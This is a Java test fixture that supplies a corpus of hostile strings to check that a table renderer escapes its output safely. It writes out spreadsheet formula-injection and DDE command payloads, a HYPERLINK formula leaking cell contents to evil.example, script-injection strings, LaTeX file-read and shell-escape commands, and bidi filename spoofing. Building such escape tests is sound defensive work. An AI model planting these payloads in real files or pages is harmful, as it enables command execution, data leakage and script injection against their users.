package cbm.classifier.table;

import java.util.List;

/** Texts as a commit message could hold them, each made to break one of the formats; all our own. */
final class HostileCorpus {

    /** The texts. */
    static final List<String> TEXTS = List.of(
            "=1+1",
            "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\u00a0=1+1",
            "\uff1d1+1",
            "'=1+1",
            "''=1+1",
            "' plain",
            "a,b;c\td|e",
            "quote \" and ' and `",
            "two\nlines\r\nand three",
            "nul \u0000 bell \u0007 escape \u001b[31mred\u001b[0m backspace \b delete \u007f",
            "c1 \u0085 \u009b31m",
            "lone high \ud800 lone low \udc00",
            "not characters \ufffe \uffff",
            "turned \u202etxt.exe\u202c and \u2066isolated\u2069",
            "mark \ufeff inside",
            "line \u2028 and paragraph \u2029",
            "<script>alert(1)</script>",
            "</script><img src=x onerror=alert(1)>",
            "&lt; &amp; &#60; &nbsp;",
            "]]> <!-- --> <?xml?>",
            "| a | b |",
            "[click](javascript:alert(1)) ![x](http://evil.example/x.png)",
            "**bold** _it_ ~~gone~~ `code` # heading > quote",
            "@someone fixes #1 www.evil.example http://evil.example",
            "\\input{/etc/passwd} \\write18{ls} \\def\\x{y}",
            "$x^2$ % comment & amp # hash _ under { brace } ~ tilde \\",
            "``quotes'' --- -- ?` !` << >> ,, fi ffi",
            "$$\\begin{document}\\end{document}$$",
            "\u00fcml\u00e4ut \u0142\u00f3d\u017a \u6771\u4eac \u0440\u0443\u0441 \ud83d\ude00 e\u0301 \u2260 \u00d7 \u00df",
            "_x000D_ _x0041_ _x_ _xZZZZ_",
            "1e5",
            "00123",
            "2019-04-13",
            "TRUE",
            "#REF!",
            "{\"json\": [1, 2]}",
            "null",
            "",
            " ",
            "very long word " + "x".repeat(500));

    private HostileCorpus() {}

    /** A table with every text in it. */
    static Table table() {
        return new Table(
                "messages",
                "Messages =1+1 <b>&</b> $x$ | _x0041_",
                List.of(Column.of("number", "A number."), Column.of("message", "=1+1 <b>hostile</b> \\par")),
                java.util.stream.IntStream.range(0, TEXTS.size())
                        .mapToObj(i -> List.of(Cell.count(i), new Cell.Text(TEXTS.get(i))))
                        .toList(),
                List.of("=1+1 note with % and | and <i>."));
    }
}
